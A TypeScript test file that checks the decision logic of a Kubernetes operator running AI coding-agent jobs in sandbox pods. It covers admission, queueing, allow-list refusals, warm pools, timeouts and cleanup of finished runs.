// Table-driven tests of the controller's decisions: observed state in, actions, status and
// events out. No cluster: decide() is pure.
import { describe, expect, it } from 'vitest';
import { codingRunSpec, type CodingRun } from '../../operator/src/api/index.ts';
import { loadOperatorConfig } from '../../operator/src/config/operator-config.ts';
import {
  AGENT_RECHECK_MS,
  CONFIG_MAP_DELETES_PER_RECONCILE,
  CONFIG_MAPS_DELETED_RECHECK_MS,
  REFUSED_RECHECK_MS,
  decide,
} from '../../operator/src/reconcile/decide.ts';
import { sandboxPodName } from '../../operator/src/reconcile/names.ts';
import { buildSandboxPod } from '../../operator/src/reconcile/sandbox-pod.ts';
import {
  SANDBOX_DENY_ALL_POLICY,
  SANDBOX_EGRESS_POLICY,
  sandboxDenyAllPolicy,
  sandboxEgressPolicy,
} from '../../operator/src/reconcile/sandbox-network-policy.ts';
import type { ObservedRun, RefusedObject, SandboxPodView, TakenName } from '../../operator/src/reconcile/observed-run.ts';
import { codingRunFixture, type CodingRunOverrides } from '../support/coding-run-fixture.ts';
import { NO_DIFF, type KeptDiff } from '../../operator/src/reconcile/kept-diff.ts';
import { didWork, specSha256, type FinishedRunRecord } from '../../operator/src/reconcile/finished-runs.ts';
import { readNamespacePolicy } from '../../operator/src/reconcile/namespace-policy.ts';
import { approvalInputSha256 } from '../../operator/src/reconcile/approval-answer.ts';

// Opted in to unisolated sandboxes, so the rows below need no isolation verdict; the #11.8 rows turn it off.
const config = loadOperatorConfig({ allowRepo: ['https://github.com/acme/*'], maxActiveRuns: 2, allowUnisolatedSandboxes: true }, {});
const now = new Date('2026-11-29T12:00:00Z');
const minutesAgo = (minutes: number) => new Date(now.getTime() - minutes * 60_000).toISOString();

function run(overrides: CodingRunOverrides = {}): CodingRun {
  return codingRunFixture({
    ...overrides,
    metadata: { generation: 2, creationTimestamp: minutesAgo(1), ...overrides.metadata },
    spec: { model: { provider: 'openai', name: 'gpt-5.6', apiKeySecretRef: { name: 'llm' } }, ...overrides.spec },
  });
}

const accepted = [
  { type: 'Accepted' as const, status: 'True' as const, reason: 'Valid', message: 'ok', lastTransitionTime: minutesAgo(1) },
];
const pod = (overrides: Partial<SandboxPodView> = {}): SandboxPodView => ({
  name: 'fix-sandbox',
  phase: 'Running',
  ready: true,
  deleting: false,
  ...overrides,
});

function observe(r: CodingRun, overrides: Partial<ObservedRun> = {}): ObservedRun {
  return {
    run: r,
    networkPolicyExists: false,
    // The namespace's deny-all is in place unless a test says otherwise.
    sandboxPolicies: [sandboxDenyAllPolicy(r.metadata.namespace)],
    ownedConfigMaps: [],
    references: { secrets: { llm: ['apiKey'] }, configMaps: {}, secretLabels: { llm: { 'chamvi.dev/usable-by-runs': 'true' } } } as never,
    admission: { admit: true, sequence: 1 },
    ...overrides,
  };
}

const types = (decision: ReturnType<typeof decide>) => decision.actions.map((action) => action.type);

const DIFF = 'diff --git a/README.md b/README.md\n--- a/README.md\n+++ b/README.md\n@@ -1 +1 @@\n-Hello\n+Hello, world\n';
const final: KeptDiff = {
  source: 'final',
  diff: DIFF,
  truncated: false,
  filesChanged: 1,
  insertions: 1,
  deletions: 1,
  configMap: 'fix-diff',
};
const snapshot: KeptDiff = { ...final, source: 'snapshot' };

describe('decide: accepting a new run', () => {
  it('refuses a run too large to write with a status beside it, before any write but its refusal, copying no template', () => {
    const templated = run({
      metadata: { finalizers: [] },
      spec: { templateRef: { name: 'big' } } as never,
      status: { template: { name: 'big', spec: { task: 'x'.repeat(100) } } } as never,
    });
    const decision = decide(observe(templated, { objectBytes: 1_200_000 }), config, now);
    expect(types(decision)).toEqual([]);
    expect(decision.status).toMatchObject({ phase: 'Failed', reason: 'InvalidSpec' });
    expect(decision.status!.message).toMatch(
      /the run is 1172 KiB as the API server stores it, with its template, over the 1024 KiB a run may be.*shorten spec\.sandbox\.env/,
    );
    expect(decision.status).not.toHaveProperty('template');
    // At the bound it is decided as any run.
    expect(types(decide(observe(run({ metadata: { finalizers: [] } }), { objectBytes: 1024 * 1024 }), config, now))).toContain('createPod');
  });

  it("adds the finalizer first, then admits a valid run and makes the namespace's policy and the pod", () => {
    const decision = decide(observe(run({ metadata: { finalizers: [] } }), { sandboxPolicies: [] }), config, now);
    expect(types(decision)).toEqual(['addFinalizer', 'ensureSandboxPolicy', 'createPod']);
    expect(decision.status).toMatchObject({
      phase: 'Provisioning',
      podName: sandboxPodName(run()),
      startTime: now.toISOString(),
      observedGeneration: 2,
    });
    expect(decision.status!.conditions!.find((c) => c.type === 'Accepted')).toMatchObject({
      status: 'True',
      reason: 'Valid',
      observedGeneration: 2,
    });
    expect(decision.events.map((event) => event.reason)).toEqual(['Accepted', 'Provisioning']);
  });

  it('creates no network policy when the operator config turns them off', () => {
    const decision = decide(observe(run()), { ...config, networkPolicy: false }, now);
    expect(types(decision)).toEqual(['createPod']);
  });

  it.each([
    [
      'a disallowed repository',
      { spec: { repository: { url: 'https://github.com/acme-evil/x' } } },
      {},
      'RepoNotAllowed',
      /does not match the operator's allowRepo/,
    ],
    [
      'a missing API key Secret',
      {},
      { references: { secrets: {}, configMaps: {} } },
      'SecretNotFound',
      /Secret agents\/llm named in spec.model.apiKeySecretRef does not exist/,
    ],
    [
      'a Secret offered to runs without the key',
      {},
      { references: { secrets: { llm: ['token'] }, configMaps: {}, secretLabels: { llm: { 'chamvi.dev/usable-by-runs': 'true' } } } },
      'SecretNotFound',
      /has no key "apiKey"/,
    ],
    [
      'security #11.3: a Secret not labelled usable-by-runs',
      {},
      { references: { secrets: { llm: ['apiKey'] }, configMaps: {}, secretLabels: { llm: {} } } },
      'SecretNotAllowed',
      /kubectl label secret llm -n agents chamvi.dev\/usable-by-runs=true/,
    ],
    [
      'security #11.3: a push token Secret (spec.publish.credentialsSecretRef) not labelled usable-by-runs, before the run spends anything',
      { spec: { publish: { credentialsSecretRef: { name: 'push' } } } },
      {
        references: {
          secrets: { llm: ['apiKey'], push: ['token'] },
          configMaps: {},
          secretLabels: { llm: { 'chamvi.dev/usable-by-runs': 'true' }, push: {} },
        },
      },
      'SecretNotAllowed',
      /^Secret agents\/push named in spec.publish.credentialsSecretRef is not marked for use by CodingRuns/,
    ],
    [
      'a missing push token Secret',
      { spec: { publish: { credentialsSecretRef: { name: 'push' } } } },
      {},
      'SecretNotFound',
      /Secret agents\/push named in spec.publish.credentialsSecretRef does not exist/,
    ],
    [
      'security #11.3: an openai-compatible endpoint not in allowModelEndpoints',
      {
        spec: { model: { provider: 'openai-compatible', name: 'm', baseURL: 'http://10.0.0.1:8080/v1', apiKeySecretRef: { name: 'llm' } } },
      },
      {},
      'ModelEndpointNotAllowed',
      /no model endpoint is allowed yet/,
    ],
    [
      'security #11.10: a sandbox image not in allowImages',
      { spec: { sandbox: { image: 'registry.example/tenant-a/private:1' } } },
      {},
      'ImageNotAllowed',
      /allowImages/,
    ],
    [
      'a sandbox RuntimeClass the admin did not allow (it would step out of their sandboxing runtime)',
      { spec: { sandbox: { runtimeClassName: 'runc' } } },
      {},
      'InvalidSpec',
      /spec.sandbox.runtimeClassName "runc" is not allowed \(allowed: none\).*allowRuntimeClasses/,
    ],
    [
      'a scripted run without its ConfigMap',
      { spec: { model: { provider: 'scripted', scriptRef: { name: 'demo' } } } },
      {},
      'ConfigMapNotFound',
      /ConfigMap agents\/demo named in spec.model.scriptRef does not exist/,
    ],
    ['a spec the schema refuses', { spec: { task: '' } }, {}, 'InvalidSpec', /spec.task/],
    [
      'a spec.continueFrom naming no run in its namespace (nothing to pin)',
      { spec: { continueFrom: { name: 'first' } } },
      { continueFromSource: { name: 'first', uid: undefined } },
      'InvalidSpec',
      /^spec.continueFrom names CodingRun first, which does not exist in namespace agents; name a finished run/,
    ],
  ])('refuses %s: Failed with the reason, no pod', (_, runOverrides, observedOverrides, reason, message) => {
    const decision = decide(observe(run(runOverrides as never), observedOverrides), config, now);
    expect(types(decision)).not.toContain('createPod');
    expect(decision.status).toMatchObject({
      phase: 'Failed',
      reason,
      message: expect.stringMatching(message),
      completionTime: now.toISOString(),
    });
    expect(decision.status!.conditions!.find((c) => c.type === 'Accepted')).toMatchObject({ status: 'False', reason });
    expect(decision.status!.conditions!.find((c) => c.type === 'Failed')).toMatchObject({ status: 'True', reason });
    expect(decision.status!.conditions!.find((c) => c.type === 'Stalled')).toMatchObject({ status: 'True', reason });
    expect(decision.events).toEqual([expect.objectContaining({ type: 'Warning', reason })]);
  });

  describe('spec.continueFrom: the source is pinned by uid as the run is accepted', () => {
    const continuing = (overrides: CodingRunOverrides = {}) =>
      run({ ...overrides, spec: { continueFrom: { name: 'first' }, ...overrides.spec } });
    const found = { continueFromSource: { name: 'first', uid: 'uid-first' } };

    it.each([
      ['admitted at once', { admission: { admit: true as const, sequence: 1 } }, 'Provisioning'],
      [
        'queued for a slot',
        { admission: { admit: false as const, heldBy: 'ClusterSlots' as const, position: 1, message: 'Queued.' } },
        'Pending',
      ],
    ])('records the source it found (status.continuedFrom) in the write that accepts the run, %s', (_, more, phase) => {
      const decision = decide(observe(continuing(), { ...found, ...more }), config, now);
      expect(decision.status).toMatchObject({ phase, continuedFrom: { name: 'first', uid: 'uid-first' } });
      expect(decision.status!.conditions!.find((c) => c.type === 'Accepted')).toMatchObject({ status: 'True', reason: 'Valid' });
    });

    it('pins the continueFrom a template gives the run (its effective spec)', () => {
      const templated = run({
        spec: { templateRef: { name: 'follow-up' } },
        status: { template: { name: 'follow-up', spec: { continueFrom: { name: 'first' } } } },
      });
      const decision = decide(observe(templated, found), config, now);
      expect(decision.status!.continuedFrom).toEqual({ name: 'first', uid: 'uid-first' });
    });

    it('keeps the pin through the later decisions, never reading the source again', () => {
      const pinned = { name: 'first', uid: 'uid-first' };
      const provisioning = continuing({
        status: { phase: 'Provisioning', conditions: accepted, startTime: minutesAgo(1), podName: 'fix-sandbox', continuedFrom: pinned },
      });
      const decision = decide(observe(provisioning, { references: undefined, pod: pod() }), config, now);
      expect(decision.status).toMatchObject({ phase: 'Running', continuedFrom: pinned });
      expect(types(decision)).toContain('startAgent');
    });

    it('pins nothing for a run without continueFrom, nor for one accepted before the pin existed (the upgrade path)', () => {
      expect(decide(observe(run()), config, now).status).not.toHaveProperty('continuedFrom');
      const acceptedBefore = continuing({ status: { phase: 'Pending', reason: 'Queued', conditions: accepted } });
      const decision = decide(observe(acceptedBefore, { references: undefined }), config, now);
      expect(decision.status).toMatchObject({ phase: 'Provisioning' });
      expect(decision.status).not.toHaveProperty('continuedFrom');
    });

    it('refuses to decide the acceptance of a continuing run whose source was not looked for', () => {
      expect(() => decide(observe(continuing()), config, now)).toThrow(/continueFrom source must be observed/);
    });
  });

  it('queues a valid run when the slots are taken, and says which limit holds it and where it stands', () => {
    const message = 'Queued: position 2 for a sandbox slot; all 2 slots of the cluster (operator maxActiveRuns) are taken (2 active).';
    const decision = decide(observe(run(), { admission: { admit: false, heldBy: 'ClusterSlots', position: 2, message } }), config, now);
    expect(types(decision)).toEqual([]);
    expect(decision.status).toMatchObject({ phase: 'Pending', reason: 'Queued', message, queue: { heldBy: 'ClusterSlots', position: 2 } });
    expect(decision.events).toContainEqual({ type: 'Normal', reason: 'Queued', message });
    expect(decision.requeueAfterMs).toBeGreaterThan(0);
  });

  it('records an Event when a queued run is held by another limit, and none while the same one holds it', () => {
    const queued = run({
      status: { phase: 'Pending', reason: 'Queued', conditions: accepted, queue: { heldBy: 'ClusterSlots', position: 1 } },
    });
    const held = (heldBy: 'ClusterSlots' | 'NamespaceTokenBudget') =>
      decide(observe(queued, { references: undefined, admission: { admit: false, heldBy, message: heldBy } }), config, now);
    expect(held('ClusterSlots').events).toEqual([]);
    expect(held('NamespaceTokenBudget').events).toEqual([{ type: 'Normal', reason: 'Queued', message: 'NamespaceTokenBudget' }]);
    expect(held('NamespaceTokenBudget').status!.queue).toEqual({ heldBy: 'NamespaceTokenBudget' });
  });

  it('refuses a queued run at admission when a list was narrowed while it waited, and creates nothing for it', () => {
    const queued = run({
      status: { phase: 'Pending', reason: 'Queued', conditions: accepted, queue: { heldBy: 'ClusterSlots', position: 1 } },
    });
    const admitted = (overrides: Partial<ObservedRun>, withConfig = config) =>
      decide(observe(queued, { references: undefined, admission: { admit: true, sequence: 7 }, ...overrides }), withConfig, now);
    // The namespace's list, narrowed by an admin after the run was accepted under the old one.
    const narrowed = admitted({ namespacePolicy: readNamespacePolicy({ 'chamvi.dev/allow-repo': 'https://github.com/acme/other' }) });
    expect(narrowed.status).toMatchObject({ phase: 'Failed', reason: 'RepoNotAllowed' });
    expect(narrowed.status!.message).toContain('allow-* annotations');
    expect(narrowed.status!.message).toContain('checked again as the run was admitted');
    expect(types(narrowed)).not.toContain('createPod');
    expect(narrowed.status!.admission).toBeUndefined();
    // The cluster's own list, narrowed in the operator's config meanwhile.
    const stricter = loadOperatorConfig(
      { allowRepo: ['https://github.com/other/*'], maxActiveRuns: 2, allowUnisolatedSandboxes: true },
      {},
    );
    expect(admitted({}, stricter).status).toMatchObject({ phase: 'Failed', reason: 'RepoNotAllowed' });
    // A list that still allows it admits it.
    expect(
      admitted({ namespacePolicy: readNamespacePolicy({ 'chamvi.dev/allow-repo': 'https://github.com/acme/**' }) }).status,
    ).toMatchObject({
      phase: 'Provisioning',
    });
  });

  it('admits a queued run when a slot frees, without reading its references again, and records its admission', () => {
    const queued = run({
      status: { phase: 'Pending', reason: 'Queued', conditions: accepted, queue: { heldBy: 'ClusterSlots', position: 1 } },
    });
    const decision = decide(observe(queued, { references: undefined, admission: { admit: true, sequence: 7 } }), config, now);
    expect(decision.status).toMatchObject({ phase: 'Provisioning', admission: { sequence: 7, time: now.toISOString() } });
    expect(decision.status!.reason).toBeUndefined();
    expect(decision.status!.queue).toBeUndefined();
  });
});

describe('#15.2 decide: a run applied again after its TTL deleted it', () => {
  const fresh = run({ spec: { ttlSecondsAfterFinished: 60 } });
  const record = (overrides: Partial<FinishedRunRecord> = {}): FinishedRunRecord => ({
    uid: 'old-uid',
    specSha256: specSha256(fresh.spec),
    phase: 'Failed',
    reason: 'BudgetExceeded',
    completionTime: minutesAgo(90),
    deletedAt: minutesAgo(30),
    ...overrides,
  });

  it.each([
    ['succeeded', record({ phase: 'Succeeded', reason: 'Completed' }), 'Succeeded', 'Normal'],
    ['failed', record(), 'Failed', 'Warning'],
    ['was cancelled', record({ phase: 'Cancelled', reason: 'Cancelled' }), 'Cancelled', 'Warning'],
  ] as const)('is not run again when the same spec %s before: it ends in that phase, AlreadyFinished', (_, before, phase, eventType) => {
    const decision = decide(observe(fresh, { finishedBefore: before }), config, now);
    expect(types(decision)).not.toContain('createPod');
    expect(types(decision)).not.toContain('startAgent');
    expect(decision.status).toMatchObject({ phase, reason: 'AlreadyFinished', completionTime: now.toISOString() });
    expect(decision.status!.message).toContain(`finished ${before.phase} (${before.reason}) at ${before.completionTime}`);
    expect(decision.status!.message).toContain('give the run a new name or change its spec');
    expect(decision.events).toEqual([expect.objectContaining({ type: eventType, reason: 'AlreadyFinished' })]);
  });

  // A CodingEval's attempt names and specs can be computed: a record written ahead for one made
  // the attempt end at once in the record's phase and reason, and the eval graded that.
  const controlledBy = (apiVersion: string, kind: string) =>
    run({
      spec: { ttlSecondsAfterFinished: 60 },
      metadata: { ownerReferences: [{ apiVersion, kind, name: 'owner', uid: 'owner-uid', controller: true }] } as never,
    });
  it.each([
    ['a CodingEval', 'Provisioning', undefined, 'chamvi.dev/v1alpha1', 'CodingEval'],
    ['a CodingSchedule', 'Provisioning', undefined, 'chamvi.dev/v1alpha1', 'CodingSchedule'],
    ['a controller of another kind (a tool that re-creates it)', 'Succeeded', 'AlreadyFinished', 'example.org/v1', 'Composite'],
    ['a kind of that name in another group', 'Succeeded', 'AlreadyFinished', 'example.org/v1', 'CodingEval'],
  ] as const)('a run controlled by %s with a matching record goes to %s (%s)', (_, phase, reason, apiVersion, kind) => {
    const finishedBefore = record({ phase: 'Succeeded', reason: 'Completed' });
    const decision = decide(observe(controlledBy(apiVersion, kind), { finishedBefore }), config, now);
    expect(decision.status).toMatchObject({ phase });
    expect(decision.status!.reason).toBe(reason);
  });

  it('runs when the spec changed (a new task is a new job), whatever the TTL', () => {
    const changed = run({ spec: { task: 'Another task', ttlSecondsAfterFinished: 60 } });
    expect(decide(observe(changed, { finishedBefore: record() }), config, now).status).toMatchObject({ phase: 'Provisioning' });
    const ttlOnly = run({ spec: { ttlSecondsAfterFinished: 3600 } });
    expect(decide(observe(ttlOnly, { finishedBefore: record() }), config, now).status).toMatchObject({
      phase: 'Failed',
      reason: 'AlreadyFinished',
    });
  });
});

describe('decide: provisioning and running', () => {
  const provisioning = run({ status: { phase: 'Provisioning', startTime: minutesAgo(1), podName: 'fix-sandbox', conditions: accepted } });

  it('creates the pod again if the cache does not have it yet (the name makes it idempotent)', () => {
    const decision = decide(observe(provisioning, { networkPolicyExists: true }), config, now);
    expect(types(decision)).toEqual(['createPod']);
    expect(decision.status!.phase).toBe('Provisioning');
  });

  it('waits for a pending pod and says why', () => {
    const decision = decide(
      observe(provisioning, { networkPolicyExists: true, pod: pod({ phase: 'Pending', ready: false, reason: 'Unschedulable' }) }),
      config,
      now,
    );
    expect(types(decision)).toEqual([]);
    expect(decision.status!.conditions!.find((c) => c.type === 'SandboxReady')).toMatchObject({ status: 'False', reason: 'Unschedulable' });
  });

  it('moves to Running and starts the agent when the pod is ready', () => {
    const decision = decide(observe(provisioning, { networkPolicyExists: true, pod: pod() }), config, now);
    expect(decision.actions).toEqual([{ type: 'startAgent', podName: pod().name }]);
    expect(decision.status).toMatchObject({ phase: 'Running' });
    expect(decision.status!.conditions!.find((c) => c.type === 'SandboxReady')).toMatchObject({ status: 'True' });
    expect(decision.events.map((event) => event.reason)).toEqual(['SandboxReady']);
  });

  it('times Queued, PodScheduled and PodReady in the write that moves the run to Running', () => {
    const scheduledAt = new Date(now.getTime() - 30_000).toISOString();
    const decision = decide(observe(provisioning, { networkPolicyExists: true, pod: pod({ scheduledAt }) }), config, now);
    expect(decision.status!.timings).toEqual([
      { phase: 'Queued', start: provisioning.metadata.creationTimestamp, durationMs: 0 },
      { phase: 'PodScheduled', start: provisioning.status!.startTime, durationMs: 30_000 },
      { phase: 'PodReady', start: scheduledAt, durationMs: 30_000 },
    ]);
    const still = decide(
      observe(provisioning, { networkPolicyExists: true, pod: pod({ phase: 'Pending', ready: false, scheduledAt }) }),
      config,
      now,
    );
    expect(still.status!.timings).toBeUndefined();
  });

  describe('with a warm pool in the namespace', () => {
    const pooled = { ...config, warmPools: [{ name: 'default', namespace: 'agents', size: 2 }] };
    const fresh = run({ status: { phase: 'Provisioning', startTime: minutesAgo(1), conditions: accepted } });

    it('claims a pool pod instead of creating one, and writes nothing until it knows which', () => {
      const decision = decide(observe(fresh, { networkPolicyExists: true }), pooled, now);
      expect(decision.actions).toEqual([
        { type: 'claimWarmPod', pool: pooled.warmPools[0], activeDeadlineSeconds: expect.any(Number) as number },
      ]);
      expect(decision.status).toBeUndefined();
    });

    it('claims no pool pod for a run whose fresh pod this process sent, not yet in the cache: it creates that pod again', () => {
      const decision = decide(observe(fresh, { networkPolicyExists: true, freshPodSent: true }), pooled, now);
      expect(types(decision)).toEqual(['createPod']);
    });

    it('goes straight to Running on the claimed pod, timing the claim, and starts the agent', () => {
      const decision = decide(observe(fresh, { networkPolicyExists: true, warmClaim: { podName: 'default-warm-x1' } }), pooled, now);
      expect(types(decision)).toEqual(['startAgent']);
      // The agent is told the pod: its job starts before this status write lands.
      expect(decision.actions).toEqual([{ type: 'startAgent', podName: 'default-warm-x1' }]);
      expect(decision.status).toMatchObject({ phase: 'Running', podName: 'default-warm-x1' });
      expect(decision.status!.conditions!.find((c) => c.type === 'SandboxReady')).toMatchObject({
        status: 'True',
        reason: 'WarmPodClaimed',
      });
      expect(decision.status!.timings!.map((entry) => [entry.phase, entry.durationMs])).toEqual([
        ['Queued', 0],
        ['SandboxClaimed', 60_000],
      ]);
    });

    it('times a claimed pool pod seen in the cache as SandboxClaimed, not as a pod that started', () => {
      const decision = decide(
        observe(fresh, { networkPolicyExists: true, pod: pod({ name: 'default-warm-x1', claimed: true }) }),
        pooled,
        now,
      );
      expect(decision.actions).toEqual([{ type: 'startAgent', podName: 'default-warm-x1' }]);
      expect(decision.status).toMatchObject({ phase: 'Running', podName: 'default-warm-x1' });
      expect(decision.status!.conditions!.find((c) => c.type === 'SandboxReady')).toMatchObject({ reason: 'WarmPodClaimed' });
      expect(decision.status!.timings!.map((entry) => entry.phase)).toEqual(['Queued', 'SandboxClaimed']);
    });

    it('creates a fresh pod when the pool had none to give', () => {
      const decision = decide(observe(fresh, { networkPolicyExists: true, warmClaim: { none: true } }), pooled, now);
      expect(types(decision)).toEqual(['createPod']);
    });

    it('never claims for a run whose pod would differ (its own env)', () => {
      const own = run({ spec: { sandbox: { env: [{ name: 'CI', value: '1' }] } }, status: fresh.status! });
      expect(types(decide(observe(own, { networkPolicyExists: true }), pooled, now))).toEqual(['createPod']);
    });
  });

  it('asks to look again when the pod must be Ready (or at the deadline, if sooner) while provisioning, and often once the agent works', () => {
    const waiting = decide(observe(provisioning, { networkPolicyExists: true, pod: pod({ phase: 'Pending', ready: false }) }), config, now);
    expect(waiting.requeueAfterMs).toBe(config.sandboxReadyTimeoutSeconds * 1000 - 60_000);
    const soon = { ...config, sandboxReadyTimeoutSeconds: 3600 };
    const byDeadline = decide(
      observe(provisioning, { networkPolicyExists: true, pod: pod({ phase: 'Pending', ready: false }) }),
      soon,
      now,
    );
    expect(byDeadline.requeueAfterMs).toBe(29 * 60_000);
    const started = decide(observe(provisioning, { networkPolicyExists: true, pod: pod() }), config, now);
    expect(started.requeueAfterMs).toBe(AGENT_RECHECK_MS);
  });

  it('fails SandboxNotReady, freeing its slot, when the pod is not Ready within sandboxReadyTimeoutSeconds of the start', () => {
    const stuck = run({ status: { phase: 'Provisioning', startTime: minutesAgo(16), podName: 'fix-sandbox', conditions: accepted } });
    const notReady = pod({ phase: 'Pending', ready: false, reason: 'ImagePullBackOff', message: 'Back-off pulling image "nope:1"' });
    const decision = decide(observe(stuck, { networkPolicyExists: true, pod: notReady }), config, now);
    expect(decision.status).toMatchObject({ phase: 'Failed', reason: 'SandboxNotReady' });
    expect(decision.status!.message).toMatch(/was not Ready within 900s .*Pending: ImagePullBackOff \(Back-off pulling image "nope:1"\)/);
    expect(types(decision)).toContain('deletePod');
    // Within the time it waits, whatever the pod says.
    const young = run({ status: { phase: 'Provisioning', startTime: minutesAgo(14), podName: 'fix-sandbox', conditions: accepted } });
    expect(decide(observe(young, { networkPolicyExists: true, pod: notReady }), config, now).status).toMatchObject({
      phase: 'Provisioning',
    });
  });

  const running = run({ status: { phase: 'Running', startTime: minutesAgo(2), podName: 'fix-sandbox', conditions: accepted } });

  it.each([
    ['the pod is gone', undefined, /disappeared before the run ended/],
    ['the pod failed', pod({ phase: 'Failed', ready: false, reason: 'Evicted' }), /is Failed \(Evicted\)/],
    ['the pod is being deleted', pod({ deleting: true }), /is being deleted/],
  ])('fails with SandboxLost when %s', (_, observedPod, message) => {
    const decision = decide(
      observe(running, { networkPolicyExists: true, keptDiff: snapshot, ...(observedPod ? { pod: observedPod } : {}) }),
      config,
      now,
    );
    expect(decision.status).toMatchObject({ phase: 'Failed', reason: 'SandboxLost', message: expect.stringMatching(message) });
    expect(types(decision)).toContain('stopAgent');
    // The policy goes once no pod is left, not while one is (still) being deleted.
    expect(types(decision).includes('deleteNetworkPolicy')).toBe(observedPod === undefined);
    expect(types(decision)).not.toContain('createPod');
  });

  it('fails with DeadlineExceeded past budget.timeout and removes the sandbox', () => {
    const late = run({ spec: { budget: { timeout: '1m' } }, status: { phase: 'Running', startTime: minutesAgo(2), conditions: accepted } });
    const decision = decide(observe(late, { networkPolicyExists: true, pod: pod(), keptDiff: final }), config, now);
    expect(decision.status).toMatchObject({ phase: 'Failed', reason: 'DeadlineExceeded' });
    expect(types(decision)).toEqual(['stopAgent', 'deletePod']);
  });

  it('reads a pod ended by activeDeadlineSeconds as DeadlineExceeded, not SandboxLost', () => {
    const decision = decide(
      observe(running, { pod: pod({ phase: 'Failed', ready: false, reason: 'DeadlineExceeded' }), keptDiff: snapshot }),
      config,
      now,
    );
    expect(decision.status).toMatchObject({ phase: 'Failed', reason: 'DeadlineExceeded' });
  });

  it('keeps lastTransitionTime of a condition whose status did not change', () => {
    const decision = decide(observe(running, { networkPolicyExists: true, pod: pod() }), config, now);
    expect(decision.status!.conditions!.find((c) => c.type === 'Accepted')!.lastTransitionTime).toBe(minutesAgo(1));
  });

  // The write that started the agent met a conflict, and a worker's step wrote Running first
  // (test/integration/agent-start-race.test.ts): the run holds none of what that write recorded.
  it.each([
    ['a pod made for it', pod(), 'PodReady'],
    ['a claimed pool pod', pod({ name: 'default-warm-x1', claimed: true }), 'WarmPodClaimed'],
  ])('records what the lost start wrote for a run a worker moved to Running, in %s', (_, observedPod, reason) => {
    const movedOn = run({ status: { phase: 'Running', steps: 1, conditions: [] } });
    const decision = decide(observe(movedOn, { networkPolicyExists: true, pod: observedPod }), config, now);
    expect(types(decision)).toEqual([]);
    expect(decision.status).toMatchObject({ phase: 'Running', podName: observedPod.name, steps: 1 });
    const condition = (type: string) => decision.status!.conditions!.find((c) => c.type === type);
    expect(condition('Accepted')).toMatchObject({ status: 'True', reason: 'Valid' });
    expect(condition('SandboxReady')).toMatchObject({ status: 'True', reason });
    // Once recorded, a run as it normally is: the next decision writes nothing.
    const again = decide(observe({ ...movedOn, status: decision.status! }, { networkPolicyExists: true, pod: observedPod }), config, now);
    expect(again.status).toEqual(decision.status);
  });

  it('leaves SandboxReady as it is for a started run whose pod is not ready at the moment', () => {
    const movedOn = run({ status: { phase: 'Running', steps: 1, podName: 'fix-sandbox', conditions: accepted } });
    const decision = decide(observe(movedOn, { networkPolicyExists: true, pod: pod({ ready: false }) }), config, now);
    expect(decision.status!.conditions!.find((c) => c.type === 'SandboxReady')).toBeUndefined();
  });
});

describe('decide: the agent of a started run', () => {
  const running = run({ status: { phase: 'Running', startTime: minutesAgo(2), podName: 'fix-sandbox', steps: 3, conditions: accepted } });
  const waiting = run({
    status: {
      phase: 'WaitingForApproval',
      startTime: minutesAgo(2),
      podName: 'fix-sandbox',
      conditions: accepted,
      pendingApproval: { id: 's1-c1', toolName: 'bash', input: '{}', requestedAt: minutesAgo(1) },
    },
  });
  const sandbox = { networkPolicyExists: true, pod: pod() };

  it.each([
    ['its state is gone from Redis', running, { state: 'missing', moving: false }, 'StateLost', /working state is gone from Redis/],
    [
      'its state is gone while it waits for approval',
      waiting,
      { state: 'missing', moving: false },
      'StateLost',
      /working state is gone from Redis/,
    ],
    ['no job is left to move it on', running, { state: 'stepping', moving: false }, 'StateLost', /No job is left in Redis/],
    ['its finalize job is gone', running, { state: 'finalizing', moving: false }, 'StateLost', /No job is left in Redis/],
    [
      'its last job failed for good',
      running,
      { state: 'stepping', moving: false, failedJob: 'job stalled more than allowable limit' },
      'AgentFailed',
      /failed for good \(job stalled more than allowable limit\)/,
    ],
  ] as const)('fails the run when %s, and stops its sandbox after', (_, subject, agent, reason, message) => {
    const decision = decide(observe(subject, { ...sandbox, agent: { ...agent }, keptDiff: final }), config, now);
    expect(decision.status).toMatchObject({ phase: 'Failed', reason, message: expect.stringMatching(message) });
    expect(types(decision)).toEqual(['stopAgent', 'deletePod']);
  });

  it.each([
    ['a job moves it on', running, { state: 'stepping', moving: true }],
    ['it waits for a human', waiting, { state: 'waiting', moving: false }],
    ['Redis cannot be asked', running, undefined],
  ] as const)('leaves the run alone when %s, and looks again soon', (_, subject, agent) => {
    const decision = decide(observe(subject, { ...sandbox, ...(agent ? { agent: { ...agent } } : {}) }), config, now);
    expect(decision.status!.phase).toBe(subject.status!.phase);
    expect(types(decision)).toEqual([]);
    expect(decision.requeueAfterMs).toBe(AGENT_RECHECK_MS);
  });

  it('names a lost pod rather than the state it took with it', () => {
    const decision = decide(
      observe(running, { networkPolicyExists: true, agent: { state: 'missing', moving: false }, keptDiff: snapshot }),
      config,
      now,
    );
    expect(decision.status).toMatchObject({ phase: 'Failed', reason: 'SandboxLost' });
  });

  it('does not judge the agent of a run it is only now starting', () => {
    const provisioning = run({ status: { phase: 'Provisioning', startTime: minutesAgo(1), podName: 'fix-sandbox', conditions: accepted } });
    const decision = decide(observe(provisioning, { ...sandbox, agent: { state: 'missing', moving: false } }), config, now);
    expect(decision.status).toMatchObject({ phase: 'Running' });
    expect(types(decision)).toEqual(['startAgent']);
  });
});

describe('decide: finished and deleted runs', () => {
  const succeeded = run({
    spec: { ttlSecondsAfterFinished: 600 },
    status: { phase: 'Succeeded', reason: 'Completed', completionTime: minutesAgo(5), conditions: accepted, observedGeneration: 2 },
  });

  it('never rewrites the status of a finished run, and stops its agent until the sandbox is gone', () => {
    const decision = decide(observe(succeeded, { pod: pod({ phase: 'Failed' }) }), config, now);
    expect(decision.status).toBeUndefined();
    expect(types(decision)).toEqual(['stopAgent', 'deletePod']);
    expect(types(decide(observe(succeeded, { pod: pod({ deleting: true }) }), config, now))).toEqual(['stopAgent']);
  });

  it('says it saw a spec edit of a finished run (GitOps re-applying a new TTL), changing nothing else', () => {
    const edited = { ...succeeded, metadata: { ...succeeded.metadata, generation: 3 } };
    const decision = decide(observe(edited), config, now);
    // kstatus reads a status older than the spec as InProgress: a finished run would never be Current again.
    expect(decision.status).toEqual({
      ...succeeded.status,
      observedGeneration: 3,
      conditions: accepted.map((condition) => ({ ...condition, observedGeneration: 3 })),
    });
    expect(decision.events).toEqual([]);
  });

  it('waits out ttlSecondsAfterFinished, then deletes the run', () => {
    expect(decide(observe(succeeded), config, now).requeueAfterMs).toBe(5 * 60_000);
    const later = new Date(now.getTime() + 5 * 60_000);
